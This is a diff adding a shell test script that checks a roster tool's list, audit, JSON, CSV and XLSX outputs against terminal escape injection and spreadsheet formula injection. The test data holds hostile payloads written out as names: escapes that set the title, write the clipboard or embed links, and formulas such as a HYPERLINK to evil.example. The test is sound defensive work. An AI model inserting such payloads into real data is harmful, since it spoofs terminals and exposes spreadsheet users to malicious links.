@@ -1,0 +1,147 @@
+# Injection: names that hold ESC, CSI, OSC (a title, a clipboard write),
+# C1 controls, CR, backspace, BEL and bytes that are not UTF-8 reach no
+# terminal as themselves: the table outputs (list, audit, batches, the
+# import table, error messages) show them as visible text, JSON escapes
+# them, CSV on a terminal is sanitised too.  Spreadsheet formulas in names
+# (= + - @ TAB CR) are neutralised in exports: LibreOffice opens our CSV
+# and our XLSX and reads each such cell back as the text it was, while an
+# unneutralised one runs (the control).  (The terminal interface's side:
+# tests/tui/test_escape.sh, test_escape_upload.sh.)
+. "$(dirname "$0")/lib.sh"
+
+make_demo 60
+HDR='Portfolio ID,Username,Password,First Name,Last Name,Graduation Year,Group,Email,Account Type'
+secret "$T/kid.pw" 'Kid1Passw0rd'
+ESC=$(printf '\033')
+
+# ---- control characters from data ----
+EVIL_FIRST=$(printf 'Eve\033[2J\033[31mRED\033]0;pwned\007\033]52;c;cHduZWQ=\007X')
+EVIL_LAST=$(printf 'Zzc1\302\233[2Jback\010\010CR\rBEL\007raw\233end')
+run as_admin account add --username evil.kid --first "$EVIL_FIRST" --last "$EVIL_LAST" \
+    --type student --grad-year 2030 --new-password-file "$T/kid.pw"
+expect_rc 0 "a name with control characters is stored"
+ID=$(sql "SELECT id FROM portfolios WHERE username = 'evil.kid'")
+# clean DESCRIPTION: the last run's output holds no control character but
+# newline (and none of the C1 range, and only UTF-8).
+clean() {
+	bad=$(printf '%s%s' "$OUT" "$ERR" | LC_ALL=C tr -d '\n' | LC_ALL=C grep -c "$(printf '[\001-\010\013-\037\177]')")
+	expect_eq "$bad" 0 "$1: no control character"
+	printf '%s%s' "$OUT" "$ERR" | iconv -f UTF-8 -t UTF-8 >/dev/null 2>&1 &&
+	    ok || not_ok "$1: output is not UTF-8"
+	case "$OUT$ERR" in *$'\302'[$'\200'-$'\237']*) not_ok "$1: a C1 control" ;; *) ok ;; esac
+}
+run as_admin list --last-name Zz
+expect_rc 0 "list"
+clean "list"
+expect_out 'Eve^[[2J' "list shows the escapes as text"
+expect_out 'Zzc1' "list shows the name"
+run as_admin list --all --format json
+clean "list json"
+expect_out '\u001b[2J' "JSON escapes ESC"
+expect_out '\u009b' "JSON escapes C1"
+expect_out '\ufffd' "JSON turns bytes that are not UTF-8 into U+FFFD"
+# An upload renames her (the audit log keeps old and new), and a task runs
+# over a selection whose prefix holds escapes (the batch detail keeps it).
+{ echo "$HDR"; printf '%s,evil.kid,,"%s",Zzc1,2030,,,student\n' "$ID" "$(printf 'New\033[5mBlink\033]8;;http://x\007link\r')"; } >"$T/rename.csv"
+run as_admin import "$T/rename.csv" --upload
+expect_rc 0 "upload of an escaped name"
+run as_admin set-grad-year --last-name "$(printf 'Zz\033[8m')" --year 2031
+run as_admin set-grad-year --all --only "$ID" --year 2031
+
+run as_admin audit
+clean "audit"
+expect_out '^[]8;;http://x^Glink^M' "audit shows the new name as text"
+run as_admin audit --format json
+clean "audit json"
+run as_admin batches
+clean "batches"
+run as_admin import "$T/rename.csv" --trial-run
+clean "import table"
+{ echo "$HDR"; printf ',new.evil1,Strong9Pass,"Bad\033[2J",Kid,2030,"No\033]0;x\007pe",,student\n'; } >"$T/bad.csv"
+run as_admin import "$T/bad.csv" --trial-run
+expect_rc 1 "an upload file with errors"
+clean "import table with errors"
+expect_out 'No^[]0;x^Gpe' "the unknown group shows as text"
+run as_admin import "$T/bad.csv" --trial-run --format json
+clean "import json"
+# Error messages carry data too: a header with escapes, a file name.
+printf '%s\n' "Portfolio ID,Username,Password,First$ESC[2J Name,Last Name,Graduation Year,Group,Email,Account Type" >"$T/hdr.csv"
+run as_admin import "$T/hdr.csv" --trial-run
+expect_rc 1 "E10"
+clean "E10 message"
+cp "$T/hdr.csv" "$T/$(printf 'evil\033]0;x\007.csv')"
+run as_admin import "$T/$(printf 'evil\033]0;x\007.csv')" --upload
+clean "a file name with escapes"
+run as_admin move-group --all --to "$(printf 'Gr\033[2Joup')"
+expect_rc 2 "an unknown group"
+clean "an unknown group's message"
+# CSV is data for a program; on a terminal (script(1) gives one) it is
+# sanitised as well.
+if command -v script >/dev/null; then
+	script -qec "$ROSTER --user demo.admin --password-file $T/admin.pw list --last-name Zz --format csv" /dev/null >"$T/tty.out" 2>&1 </dev/null
+	OUT=$(tr -d '\r' <"$T/tty.out"); ERR=
+	clean "CSV on a terminal"
+	expect_out 'evil.kid' "CSV on a terminal lists the row"
+	run as_admin list --last-name Zz --format csv
+	expect_out "$ESC" "CSV into a pipe keeps the data as it is"
+else
+	not_ok "script(1) is missing (util-linux)"
+fi
+
+# ---- spreadsheet formulas ----
+i=0
+for f in '=HYPERLINK("http://evil.example/?x","click")' '+1+1' '-2+3' '@SUM(1+1)' \
+    "$(printf '\t=1+1')" '=1+1'; do
+	i=$((i + 1))
+	run as_admin account add --username "formula.k$i" --first "$f" --last "Formula$i" \
+	    --type student --grad-year 2030 --new-password-file "$T/kid.pw"
+	expect_rc 0 "a name that is a formula: $f"
+done
+NF=$i
+as_admin export --last-name Formula -o "$T/f.csv" >/dev/null
+as_admin export --last-name Formula -o "$T/f.xlsx" >/dev/null
+printf 'A,B\n=1+1,x\n' >"$T/raw.csv"
+export HOME=$T
+lo_csv() { # FILE... OUTDIR: LibreOffice opens each FILE (CSV as UTF-8)
+	# and saves it as CSV in OUTDIR
+	_out=$(eval "echo \${$#}")
+	_n=$(($# - 1)); _files=
+	while [ $_n -gt 0 ]; do _files="$_files $1"; shift; _n=$((_n - 1)); done
+	# shellcheck disable=SC2086
+	soffice --headless -env:UserInstallation="file://$T/lo-profile" --infilter="CSV:44,34,76,1" \
+	    --convert-to "csv:Text - txt - csv (StarCalc):44,34,76,1" --outdir "$_out" $_files >/dev/null 2>&1
+}
+# cell FILE ROW COL: one cell of a CSV file (RFC 4180), as text.
+cell() {
+	/usr/bin/python3 -c 'import csv, sys
+rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
+sys.stdout.write(rows[int(sys.argv[2])][int(sys.argv[3])])' "$@"
+}
+if command -v soffice >/dev/null; then
+	# One LibreOffice start for the three files (each start is seconds).
+	cp "$T/f.xlsx" "$T/fx.xlsx"
+	lo_csv "$T/raw.csv" "$T/f.csv" "$T/fx.xlsx" "$T/lo"
+	expect_eq "$(cell "$T/lo/raw.csv" 1 0)" 2 "the control: LibreOffice runs a formula that is not neutralised"
+	for out in "$T/lo/f.csv" "$T/lo/fx.csv"; do
+		[ -f "$out" ] || { not_ok "LibreOffice did not open $out's source"; continue; }
+		n=1
+		while [ $n -le $NF ]; do
+			want=$(sql "SELECT first FROM portfolios WHERE username = 'formula.k$n'")
+			got=$(cell "$out" "$n" 3)
+			# Read back as the text it was, behind the apostrophe
+			# that keeps a spreadsheet from running it.
+			expect_eq "$got" "'$want" "$(basename "$out"): LibreOffice reads formula.k$n's first name as text"
+			n=$((n + 1))
+		done
+	done
+	# The neutralised file uploads back unchanged.
+		# (but for the leading tab, trimmed as upload values are: W11)
+	run as_admin import "$T/f.csv" --trial-run --format json
+	expect_out "\"update\": 1, \"same\": $((NF - 1)), \"error\": 0" "our CSV trial-runs as unchanged"
+	run as_admin import "$T/lo/fx.csv" --trial-run --format json
+	expect_out "\"update\": 1, \"same\": $((NF - 1)), \"error\": 0" "LibreOffice's CSV of our XLSX trial-runs as unchanged"
+else
+	not_ok "soffice is missing (scripts/deps.sh)"
+fi
+
+finish
